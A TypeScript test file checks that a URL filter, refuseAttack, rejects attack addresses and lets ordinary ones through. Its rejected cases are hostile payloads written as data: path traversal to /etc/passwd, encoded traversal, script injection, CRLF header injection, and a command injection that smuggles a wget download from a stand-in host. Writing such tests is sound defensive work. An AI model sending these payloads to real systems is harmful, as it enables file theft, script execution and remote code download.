import { ArmFailure } from '@octollm/service-kit';
import { describe, expect, it } from 'vitest';
import { refuseAttack } from './attack-rules.ts';

describe('the address of a call', () => {
  it.each([
    'https://shop.example/get?file=../../../etc/passwd',
    'https://shop.example/get?file=%252e%252e%252f%252e%252e%252fconf',
    'https://shop.example/?q=<script>alert(1)</script>',
    'https://shop.example/?ip=;wget%20http://203.0.113.9/a',
    'https://shop.example/a%0d%0aSet-Cookie:%20s=1',
  ])('is refused when it is an attack: %s', (url) => {
    expect(() => refuseAttack(url)).toThrow(ArmFailure);
    expect(() => refuseAttack(url)).toThrow(/^The address .+ Give one that does not\.$/);
  });

  it.each([
    'http://127.0.0.1:8080/a?b=c',
    'https://example.com/search?q=select+a+hotel&next=https%3A%2F%2Fexample.com%2F#top',
    'https://en.wikipedia.org/wiki/Bergen_(Norway)',
  ])('passes when it is none: %s', (url) => {
    expect(() => refuseAttack(url)).not.toThrow();
  });
});
